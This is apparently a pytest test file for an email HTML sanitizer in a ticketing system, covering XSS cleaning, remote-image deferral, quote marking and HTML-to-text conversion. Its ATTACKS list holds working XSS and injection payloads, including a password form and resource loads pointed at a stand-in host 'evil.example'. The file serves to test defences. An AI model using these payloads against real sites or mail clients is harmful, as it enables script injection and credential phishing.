"""HTML of strangers is shown inside our page: nothing in it may run, load, overlay or phone home."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tickets.mail import html, parse, quote
from tickets.mail.tests.data import mail_files

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/admin/delete'>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;top:0;background:url(https://evil.example)'>x</p>",
    "<div id=composer class='toast hidden' hx-get=/logout data-action=x>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<table background=https://evil.example><td background=https://evil.example>x",
    "<video poster=https://evil.example src=https://evil.example></video><audio src=https://evil.example>",
    "<img srcset='https://evil.example 2x'><picture><source srcset=https://evil.example></picture>",
    "<input type=image src=https://evil.example>",
    "<p title='<img src=\"\ue0f0https://evil.example\">'>x</p>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<<script>script>alert(1)<</script>/script>",
    "<b x='<font '><font onclick=alert(1)>x</font></b>",
    "<b/onmouseover=alert(1)>x</b>",
]
ALLOWED_ATTRIBUTES = {html.REMOTE_ATTRIBUTE}.union(
    ("href", "rel", "target", "src", "alt", "width", "height", "class", "dir", "lang", "title"),
    ("colspan", "rowspan", "scope", "start", "type"),
)


def attributes(markup: str) -> list[tuple[str, str, str]]:
    found = []
    for tag in re.finditer(r"<([a-z0-9]+)((?:\s+[^\s=>]+(?:=\"[^\"]*\")?)*)\s*/?>", markup):
        found += [(tag[1], name, value) for name, value in re.findall(r"\s([^\s=]+)=\"([^\"]*)\"", tag[2])]
    return found


def assert_harmless(markup: str) -> None:
    tags = set(re.findall(r"</?([a-zA-Z][^\s/>]*)", re.sub(r'"[^"]*"', '""', markup)))
    assert tags <= html._TAGS, tags
    for tag, name, value in attributes(markup):
        assert name in ALLOWED_ATTRIBUTES, name
        if name == "src":
            assert value.startswith(("/", "data:image/")), value
        if name == "href":
            assert re.match(r"(?:https?://|mailto:|tel:)", value, re.IGNORECASE), value
        if name == "class":
            assert value == html.QUOTE_CLASS, value
        if name == "target":
            assert tag == "a"


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_harmless(attack: str) -> None:
    cleaned = html.clean(f"before{attack}after", inline={"x": "/files/x"}).html
    assert "before" in cleaned
    assert_harmless(cleaned)
    assert "alert(1)" not in re.sub(r">[^<]*<|\"[^\"]*\"", "", f">{cleaned}<")


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<", ">", "'", '"', "<b ", "</p>", "<!--", "-->", "<table>"]), max_size=8
    ).map("".join)
)
def test_mixed_attacks_come_out_harmless(markup: str) -> None:
    assert_harmless(html.clean(markup).html)
    html.to_text(markup)


def test_public_html_mails_come_out_harmless_and_keep_their_words() -> None:
    for corpus in ("mime", "replies", "bounces"):
        for file in mail_files(corpus):
            found = parse.parse(file.read_bytes())
            cleaned = html.clean(found.html or "")
            assert_harmless(cleaned.html)
            words = re.findall(r"\w{4,}", html.to_text(found.html or ""))
            again = html.to_text(cleaned.html)
            assert all(word in again for word in words), file.name


def test_remote_images_wait_until_asked_and_are_counted() -> None:
    found = html.clean(
        "<img src='https://t.example/p.gif?a=1&b=2' alt=logo><img src=//x.example/y.png><img src='http://z.example'>"
    )
    assert found.remote_images == 3
    assert " src=" not in found.html
    assert 'data-remote-src="https://t.example/p.gif?a=1&amp;b=2"' in found.html
    assert 'data-remote-src="https://x.example/y.png"' in found.html


def test_inline_images_are_our_own_copies_and_unknown_ones_stay_empty() -> None:
    found = html.clean("<img src='cid:One@x'><img src='cid:two'>", inline={"one@x": "/files/7"})
    assert found.html.count('src="/files/7"') == 1
    assert "cid:" not in found.html
    assert found.remote_images == 0


def test_embedded_pictures_show_but_embedded_pages_do_not() -> None:
    assert "data:image/png" in html.clean("<img src='data:image/png;base64,iVBORw0KGgo='>").html
    assert "data:" not in html.clean("<img src='data:image/svg+xml;base64,PHN2Zz4='>").html


def test_links_open_apart_and_tell_nothing() -> None:
    found = html.clean("<a href='https://x.example' target=_self rel=opener>x</a>").html
    assert 'target="_blank"' in found
    assert re.search(r'rel="[^"]*noopener[^"]*nofollow', found)


@pytest.mark.parametrize(
    "markup",
    [
        "<div>new</div><div class='gmail_quote'>old</div>",
        "<div>new</div><div class='gmail_quote gmail_quote_container'>old</div>",
        "<div>new</div><blockquote type=cite>old</blockquote>",
        "<div>new</div><div class='moz-cite-prefix'>On</div>",
        "<div>new</div><div class='yahoo_quoted'>old</div>",
        "<div>new</div><div id='divRplyFwdMsg'>old</div>",
        "<div>new</div><div id='x_divRplyFwdMsg' class='gmail_quote'>old</div>",
    ],
)
def test_quotes_keep_a_mark_to_fold_them(markup: str) -> None:
    cleaned = html.clean(markup).html
    assert cleaned.count(f'class="{html.QUOTE_CLASS}"') == 1
    assert "id=" not in cleaned


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>One</p><p>Two<br>three</p>", "One\n\nTwo\nthree"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("<a href='https://x.example/y'>here</a>", "here (https://x.example/y)"),
        ("<a href='https://x.example/'>x.example</a>", "x.example"),
        ("<a href='mailto:a@b.example'>write</a>", "write"),
        ("new<blockquote>old<blockquote>older</blockquote></blockquote>", "new\n\n> old\n>\n> > older"),
        ("<pre>a  b\n  c</pre>", "a  b\n  c"),
        ("a &amp; b &lt;c&gt;&nbsp;d", "a & b <c> d"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a\tb\nc"),
        ("<title>no</title><style>no</style>yes<script>no</script>", "yes"),
        ("", ""),
    ],
)
def test_text_of_html(markup: str, text: str) -> None:
    assert html.to_text(markup) == text


def test_text_shown_as_html_keeps_its_lines_and_runs_nothing() -> None:
    assert html.from_text("a <b>\nc\n\nd") == "<p>a &lt;b&gt;<br>c</p><p>d</p>"


def test_too_large_markup_is_shown_as_text_with_all_its_words() -> None:
    markup = "<div>" * 30_000 + "<script>bad</script>words &lt;b&gt;"
    found = html.clean(markup).html
    assert "words &lt;b&gt;" in found
    assert "bad" not in found


def test_a_long_newsletter_with_embedded_pictures_is_not_too_large() -> None:
    picture = '<img src="data:image/png;base64,' + "A" * 1_000_000 + '">'
    assert not html.too_complex("<table><tr><td>x</td></tr></table>" * 1500 + picture)


def test_replies_in_html_split_like_text() -> None:
    for file in mail_files("replies", "html_replies/*.html"):
        new, quoted = quote.split_reply(html.to_text(file.read_text(errors="replace")))
        assert " ".join(new.split()) == "Hi. I am fine. Thanks, Alex", file.name
        assert quoted, file.name
